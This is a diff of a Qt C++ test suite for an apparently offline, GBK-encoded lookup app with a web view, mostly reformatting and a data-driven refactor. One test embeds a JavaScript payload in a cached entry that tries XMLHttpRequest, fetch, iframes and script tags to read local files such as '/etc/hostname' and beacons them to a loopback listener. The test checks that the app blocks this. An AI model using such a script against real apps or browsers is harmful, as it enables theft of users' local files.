@@ -56,27 +56,39 @@ private slots:
 
     void scriptsInEntriesCannotReadLocalFiles() {
         QTemporaryDir secrets;
-        const QByteArray secret = QUrl::fromLocalFile(secrets.filePath(QStringLiteral("secret.txt"))).toEncoded();
+        const QByteArray secret =
+            QUrl::fromLocalFile(secrets.filePath(QStringLiteral("secret.txt"))).toEncoded();
         QVERIFY(WriteFile(secrets.filePath(QStringLiteral("secret.txt")), "TOPSECRET-LOCAL"));
         RecordingServer listener;
-        auto w = Window(QStringLiteral("http://127.0.0.1:%1/items/O!").arg(UnusedPort()),
-                 Index({QStringLiteral("7 - 0007恶意.html"), QStringLiteral("8 - 0008恶意二.html")}));
+        auto w = Window(
+            QStringLiteral("http://127.0.0.1:%1/items/O!").arg(UnusedPort()),
+            Index({QStringLiteral("7 - 0007恶意.html"), QStringLiteral("8 - 0008恶意二.html")}));
         QVERIFY(w->form->Open());
         QVERIFY(WriteFile(w->temp.filePath(QStringLiteral("secret.txt")), "TOPSECRET-TEMP"));
         // An entry (as served, cached in the data folder) that reports that it ran,
         // then tries every route a page has to read local files, and sends what it
         // read to a loopback listener.
         const QByteArray script =
-            "<script>var L='" + listener.Url(QString()).toUtf8() + "';new Image().src=L+'/alive';"
+            "<script>var L='" + listener.Url(QString()).toUtf8() +
+            "';new Image().src=L+'/alive';"
             "function send(t){new Image().src=L+'/leak?'+encodeURIComponent(t)}"
-            "['secret.txt','" + secret + "','file:///etc/hostname','qnln1.html'].forEach(function(u){"
-            "try{var x=new XMLHttpRequest();x.open('GET',u);x.onload=function(){send(x.responseText)};x.send()}catch(e){}"
+            "['secret.txt','" +
+            secret +
+            "','file:///etc/hostname','qnln1.html'].forEach(function(u){"
+            "try{var x=new "
+            "XMLHttpRequest();x.open('GET',u);x.onload=function(){send(x.responseText)};x.send()}"
+            "catch(e){}"
             "try{fetch(u).then(r=>r.text()).then(send,function(){})}catch(e){}});"
-            "['" + secret + "','secret.txt'].forEach(function(u){var f=document.createElement('iframe');f.src=u;"
+            "['" +
+            secret +
+            "','secret.txt'].forEach(function(u){var f=document.createElement('iframe');f.src=u;"
             "f.onload=function(){try{send(f.contentDocument.body.innerText)}catch(e){}};"
             "document.body.appendChild(f)});"
-            "var s=document.createElement('script');s.src='secret.txt';document.body.appendChild(s);</script>";
-        QVERIFY(WriteFile(w->Data(QStringLiteral("恶意.html")), ToGbk(QStringLiteral("<p>恶意条目</p>")) + script));
+            "var "
+            "s=document.createElement('script');s.src='secret.txt';document.body.appendChild(s);</"
+            "script>";
+        QVERIFY(WriteFile(w->Data(QStringLiteral("恶意.html")),
+                          ToGbk(QStringLiteral("<p>恶意条目</p>")) + script));
         w->Query(QStringLiteral("恶意"));
         QTRY_VERIFY_WITH_TIMEOUT(listener.Paths().contains(QStringLiteral("/alive")), 15000);
         QTest::qWait(1500);
@@ -84,27 +96,34 @@ private slots:
             QVERIFY2(!path.startsWith(u"/leak"), qPrintable(path));
         // The page keeps its tile and its related links.
         QTRY_COMPARE_WITH_TIMEOUT(
-            EvaluateInView(*w->form->WebBrowser1,
-                           QStringLiteral("(function(){var i=document.createElement('img');i.id='t';i.src='QNLNBJ1.JPG';"
-                                          "document.body.appendChild(i);return 'added'})()")),
+            EvaluateInView(
+                *w->form->WebBrowser1,
+                QStringLiteral(
+                    "(function(){var i=document.createElement('img');i.id='t';i.src='QNLNBJ1.JPG';"
+                    "document.body.appendChild(i);return 'added'})()")),
             QStringLiteral("added"), 10000);
         QTRY_COMPARE_WITH_TIMEOUT(
-            EvaluateInView(*w->form->WebBrowser1, QStringLiteral("String(document.getElementById('t').naturalWidth)")),
+            EvaluateInView(*w->form->WebBrowser1,
+                           QStringLiteral("String(document.getElementById('t').naturalWidth)")),
             QStringLiteral("66"), 10000);
-        EvaluateInView(*w->form->WebBrowser1, QStringLiteral("document.getElementById('恶意二').click()"));
+        EvaluateInView(*w->form->WebBrowser1,
+                       QStringLiteral("document.getElementById('恶意二').click()"));
         QTRY_COMPARE_WITH_TIMEOUT(w->form->Text1->text(), QStringLiteral("恶意二"), 10000);
     }
 
     void brokenAndSilentEntryDownloads() {
-        RecordingServer cloud({{"/items/O!1", RawHttpServer::Response("500 Internal Server Error", "<h1>500</h1>")},
-                               {"/items/O!2", "HTTP/1.1 200 OK\r\nContent-Length: 5000\r\n\r\n<p>only the start"}});
-        auto w = Window(cloud.Url(QStringLiteral("/items/O!")),
-                 Index({QStringLiteral("1 - 0001错误.html"), QStringLiteral("2 - 0002截断.html"),
-                        QStringLiteral("hang - 0003无声.html")}));
+        RecordingServer cloud(
+            {{"/items/O!1", RawHttpServer::Response("500 Internal Server Error", "<h1>500</h1>")},
+             {"/items/O!2", "HTTP/1.1 200 OK\r\nContent-Length: 5000\r\n\r\n<p>only the start"}});
+        auto w =
+            Window(cloud.Url(QStringLiteral("/items/O!")),
+                   Index({QStringLiteral("1 - 0001错误.html"), QStringLiteral("2 - 0002截断.html"),
+                          QStringLiteral("hang - 0003无声.html")}));
         QVERIFY(w->form->Open());
         for (const QString& name : {QStringLiteral("错误"), QStringLiteral("截断")}) {
             w->Query(name);
-            QVERIFY(w->Page().contains(QStringLiteral("<p>网络未连接，无法查询“") + name + QStringLiteral("”的信息。</p>")));
+            QVERIFY(w->Page().contains(QStringLiteral("<p>网络未连接，无法查询“") + name +
+                                       QStringLiteral("”的信息。</p>")));
             QVERIFY(!QFileInfo::exists(w->Data(name + QStringLiteral(".html"))));
         }
         // A server that accepts and never answers: the query gives up within the time-outs.
@@ -117,8 +136,9 @@ private slots:
     }
 
     void readOnlyDataFolder() {
-        auto w = Window(QStringLiteral("http://127.0.0.1:%1/items/O!").arg(UnusedPort()),
-                 Index({QStringLiteral("1 - 0001甘草.html"), QStringLiteral("2 - 0002黄芪.html")}));
+        auto w = Window(
+            QStringLiteral("http://127.0.0.1:%1/items/O!").arg(UnusedPort()),
+            Index({QStringLiteral("1 - 0001甘草.html"), QStringLiteral("2 - 0002黄芪.html")}));
         QVERIFY(w->form->Open());
         WriteFile(w->Data(QStringLiteral("甘草.html")), ToGbk(QStringLiteral("<p>本地甘草</p>")));
         QProcess chattr;
@@ -132,26 +152,29 @@ private slots:
         QProcess::execute(QStringLiteral("chattr"), {QStringLiteral("-i"), w->Data()});
         QVERIFY(cached.contains(QStringLiteral("<p>本地甘草</p>")));
         QVERIFY(missing.contains(QStringLiteral("无法查询“黄芪”")));
-        QCOMPARE(QDir(w->Data()).entryList(QDir::Files), (QStringList{QStringLiteral("ML"), QStringLiteral("甘草.html")}));
+        QCOMPARE(QDir(w->Data()).entryList(QDir::Files),
+                 (QStringList{QStringLiteral("ML"), QStringLiteral("甘草.html")}));
+    }
+
+    void damagedIndexFiles_data() {
+        QTest::addColumn<QByteArray>("index");
+        QTest::newRow("CR only") << QByteArray("\r1 - 0001Alpha.html\r2 - 0002Beta.html\r");
+        QTest::newRow("LF only") << QByteArray("\n1 - 0001Alpha.html\n2 - 0002Beta.html\n");
+        QTest::newRow("invalid GBK")
+            << QByteArray("\r\n1 - 0001\xff\xfe\x80.html\r\n2 - 0002Beta.html\r\n\x81");
+        QTest::newRow("NUL") << QByteArray("\r\n\0\0 - \0\0\0\0\0\0\0\0\0\r\n", 18);
+        QTest::newRow("empty") << QByteArray();
     }
 
     void damagedIndexFiles() {
-        const QList<QByteArray> indexes = {
-            "\r1 - 0001Alpha.html\r2 - 0002Beta.html\r",   // CR only
-            "\n1 - 0001Alpha.html\n2 - 0002Beta.html\n",   // LF only
-            "\r\n1 - 0001\xff\xfe\x80.html\r\n2 - 0002Beta.html\r\n\x81", // invalid GBK
-            QByteArray("\r\n\0\0 - \0\0\0\0\0\0\0\0\0\r\n", 18),
-            QByteArray(),
-        };
-        for (const QByteArray& index : indexes) {
-            auto w = Window(QStringLiteral("http://127.0.0.1:%1/items/O!").arg(UnusedPort()), index);
-            QVERIFY(w->form->Open());
-            w->Query(QStringLiteral("."));
-            QVERIFY(w->Page().startsWith(QStringLiteral("<body style=")));
-            w->Query(QStringLiteral("Beta"));
-            QVERIFY(w->Page().startsWith(QStringLiteral("<body style=")));
-            QVERIFY(w->form->Command1->isEnabled());
-        }
+        QFETCH(QByteArray, index);
+        auto w = Window(OfflineItemsUrl(), index);
+        QVERIFY(w->form->Open());
+        w->Query(QStringLiteral("."));
+        QVERIFY(w->Page().startsWith(QStringLiteral("<body style=")));
+        w->Query(QStringLiteral("Beta"));
+        QVERIFY(w->Page().startsWith(QStringLiteral("<body style=")));
+        QVERIFY(w->form->Command1->isEnabled());
     }
 };
 
